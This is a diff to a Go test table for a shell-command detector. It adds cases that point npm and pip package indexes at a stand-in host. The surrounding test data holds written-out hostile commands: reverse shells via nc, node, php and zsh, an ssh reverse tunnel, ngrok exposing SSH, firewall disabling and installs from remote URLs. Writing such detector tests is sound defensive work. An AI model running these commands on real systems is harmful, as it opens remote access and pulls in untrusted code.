@@ -139,6 +139,7 @@ func TestEffects(t *testing.T) {
 		// system
 		{"sudo raises privileges", "sudo -n true", "system privilege"},
 		{"ufw disable", "ufw disable", "system firewall"},
+		{"a package index elsewhere set for good", "npm config set registry https://x.example/", "system autostart"},
 		{"ssh -R opens a reverse tunnel", "ssh -fNR 2222:localhost:22 h", "system tunnel"},
 		{"ngrok exposes a port", "ngrok tcp 22", "system tunnel"},
 		{"pkill's pattern is a regular expression", "pkill -f .", "system processes"},
@@ -242,6 +243,7 @@ func TestFindingsOfCodeRoutes(t *testing.T) {
 		{"a shell piped to a network peer", "mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", []shell.FindingKind{shell.ReverseShell}},
 		{"a package installed from a URL", "pip install https://x.example/p.tar.gz", []shell.FindingKind{shell.RemoteCode}},
 		{"a package from an index elsewhere", "npm install --registry https://x.example/ lodash", []shell.FindingKind{shell.RemoteCode}},
+		{"an index elsewhere set for the session", "export PIP_INDEX_URL=https://x.example/simple", []shell.FindingKind{shell.RemoteCode}},
 		{"node connecting and spawning a shell", `node -e 'const c=require("net").connect(1,"h");const p=require("child_process").spawn("sh");c.pipe(p.stdin)'`, []shell.FindingKind{shell.ReverseShell}},
 		{"php proc_open of a shell on a stream socket", `php -r '$s=stream_socket_client("tcp://h:1");proc_open("sh",[0=>$s,1=>$s],$p);'`, []shell.FindingKind{shell.ReverseShell}},
 		{"zsh's ztcp", "zmodload zsh/net/tcp; ztcp h 1; zsh <&$REPLY >&$REPLY", []shell.FindingKind{shell.ReverseShell}},
